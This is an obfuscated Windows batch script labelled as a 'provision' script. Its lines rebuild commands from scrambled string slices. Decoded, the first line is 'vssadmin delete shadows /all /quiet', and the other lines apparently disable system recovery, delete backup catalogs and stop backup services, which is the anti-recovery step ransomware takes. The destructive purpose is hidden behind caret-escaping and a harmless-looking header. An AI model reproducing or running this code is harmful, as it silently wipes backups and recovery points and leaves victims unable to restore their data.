REM provision 4933 v3
@^e^ch^o ^o^ff
set "lbmu=eouMh4dniVwtlP/samZkqNOv"
%lbmu:~23,1%%lbmu:~15,1%%lbmu:~15,1%%lbmu:~16,1%%lbmu:~6,1%%lbmu:~17,1%%lbmu:~8,1%%lbmu:~7,1% %lbmu:~-18,1%%lbmu:~0,1%%lbmu:~12,1%%lbmu:~-24,1%%lbmu:~11,1%%lbmu:~0,1% %lbmu:~-9,1%%lbmu:~-20,1%%lbmu:~16,1%%lbmu:~6,1%%lbmu:~1,1%%lbmu:~-14,1%%lbmu:~15,1% %lbmu:~14,1%%lbmu:~-8,1%%lbmu:~12,1%%lbmu:~-12,1% %lbmu:~14,1%%lbmu:~-4,1%%lbmu:~2,1%%lbmu:~-16,1%%lbmu:~-24,1%%lbmu:~11,1%
@^e^ch^o o^ff
s^e^t "huyk=sqcCXwaeFmhlytiVpTIodk"
%huyk:~5,1%%huyk:~9,1%%huyk:~14,1%%huyk:~2,1% %huyk:~0,1%%huyk:~-12,1%%huyk:~-16,1%%huyk:~20,1%%huyk:~19,1%%huyk:~5,1%%huyk:~2,1%%huyk:~19,1%%huyk:~16,1%%huyk:~12,1% %huyk:~-2,1%%huyk:~7,1%%huyk:~-11,1%%huyk:~7,1%%huyk:~-9,1%%huyk:~7,1%
@e^c^h^o o^f^f
set "pizz=toWAc8erbisv{naYdBJflp/}yDu"
%pizz:~8,1%%pizz:~-23,1%%pizz:~-11,1%%pizz:~-21,1%%pizz:~16,1%%pizz:~-18,1%%pizz:~0,1% %pizz:~22,1%%pizz:~-17,1%%pizz:~6,1%%pizz:~-27,1% %pizz:~12,1%%pizz:~16,1%%pizz:~6,1%%pizz:~19,1%%pizz:~14,1%%pizz:~26,1%%pizz:~20,1%%pizz:~0,1%%pizz:~23,1% %pizz:~-20,1%%pizz:~-21,1%%pizz:~4,1%%pizz:~1,1%%pizz:~11,1%%pizz:~-21,1%%pizz:~7,1%%pizz:~24,1%%pizz:~6,1%%pizz:~-14,1%%pizz:~-13,1%%pizz:~8,1%%pizz:~20,1%%pizz:~6,1%%pizz:~16,1% %pizz:~-14,1%%pizz:~1,1%
@^echo o^ff
set "tzcu=gplr/{jubsqncoktfWdKiLS}eayT"
%tzcu:~-20,1%%tzcu:~12,1%%tzcu:~18,1%%tzcu:~-4,1%%tzcu:~-10,1%%tzcu:~20,1%%tzcu:~15,1% %tzcu:~4,1%%tzcu:~-19,1%%tzcu:~24,1%%tzcu:~15,1% %tzcu:~5,1%%tzcu:~18,1%%tzcu:~24,1%%tzcu:~16,1%%tzcu:~-3,1%%tzcu:~7,1%%tzcu:~2,1%%tzcu:~15,1%%tzcu:~23,1% %tzcu:~-20,1%%tzcu:~-15,1%%tzcu:~13,1%%tzcu:~15,1%%tzcu:~9,1%%tzcu:~15,1%%tzcu:~25,1%%tzcu:~15,1%%tzcu:~7,1%%tzcu:~9,1%%tzcu:~1,1%%tzcu:~-15,1%%tzcu:~2,1%%tzcu:~20,1%%tzcu:~12,1%%tzcu:~26,1% %tzcu:~20,1%%tzcu:~0,1%%tzcu:~-17,1%%tzcu:~13,1%%tzcu:~3,1%%tzcu:~-4,1%%tzcu:~25,1%%tzcu:~2,1%%tzcu:~2,1%%tzcu:~16,1%%tzcu:~25,1%%tzcu:~20,1%%tzcu:~-26,1%%tzcu:~7,1%%tzcu:~-25,1%%tzcu:~24,1%%tzcu:~9,1%
@e^c^h^o ^of^f
^s^e^t "rbys=wtrolROP6mgcea-vnudIqib2"
%rbys:~0,1%%rbys:~-2,1%%rbys:~13,1%%rbys:~18,1%%rbys:~9,1%%rbys:~-3,1%%rbys:~-8,1% %rbys:~-6,1%%rbys:~12,1%%rbys:~4,1%%rbys:~12,1%%rbys:~1,1%%rbys:~12,1% %rbys:~-13,1%%rbys:~13,1%%rbys:~1,1%%rbys:~13,1%%rbys:~4,1%%rbys:~-21,1%%rbys:~-14,1% %rbys:~14,1%%rbys:~20,1%%rbys:~-7,1%%rbys:~-3,1%%rbys:~12,1%%rbys:~1,1%
@e^c^ho ^o^f^f
^set "vjcz=ctelsCxkaVy/rDviZpqomnu2J8gIS0B"
%vjcz:~21,1%%vjcz:~2,1%%vjcz:~1,1% %vjcz:~4,1%%vjcz:~1,1%%vjcz:~19,1%%vjcz:~17,1% "%vjcz:~9,1%%vjcz:~2,1%%vjcz:~-29,1%%vjcz:~-23,1%%vjcz:~20,1% %vjcz:~30,1%%vjcz:~8,1%%vjcz:~0,1%%vjcz:~7,1%%vjcz:~22,1%%vjcz:~-14,1% %vjcz:~5,1%%vjcz:~8,1%%vjcz:~1,1%%vjcz:~8,1%%vjcz:~-28,1%%vjcz:~19,1%%vjcz:~26,1% %vjcz:~13,1%%vjcz:~8,1%%vjcz:~1,1%%vjcz:~8,1% %vjcz:~28,1%%vjcz:~2,1%%vjcz:~12,1%%vjcz:~14,1%%vjcz:~15,1%%vjcz:~-31,1%%vjcz:~2,1%" %vjcz:~11,1%%vjcz:~10,1%
